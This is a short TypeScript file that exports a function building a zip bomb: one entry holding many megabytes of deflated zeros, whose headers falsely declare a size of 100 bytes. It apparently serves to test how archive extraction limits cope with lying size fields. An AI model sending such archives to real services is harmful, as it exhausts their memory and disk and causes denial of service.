import { constants, deflateRawSync } from 'node:zlib'

/** So many megabytes of zeros as one deflated entry of a thousandth of that, whose header and directory say that it holds 100 bytes. */
export function bomb(name: string, megabytes: number): Buffer {
  const piece = deflateRawSync(Buffer.alloc(64 * 2 ** 20), { level: 9, finishFlush: constants.Z_FULL_FLUSH })
  const packed = Buffer.concat([...Array<Buffer>(Math.ceil(megabytes / 64)).fill(piece), Buffer.from([3, 0])])
  const sizes = Buffer.alloc(16)
  sizes.writeUInt32LE(packed.length, 4)
  sizes.writeUInt32LE(100, 8)
  sizes.writeUInt16LE(name.length, 12)
  const local = Buffer.concat([Buffer.from('504b030414000000080000000000', 'hex'), sizes, Buffer.from(name)])
  const directory = Buffer.concat([
    Buffer.from('504b01021400140000000800', 'hex'),
    Buffer.alloc(4),
    sizes,
    Buffer.alloc(14),
    Buffer.from(name),
  ])
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(local.length + packed.length, 16)
  return Buffer.concat([local, packed, directory, end])
}
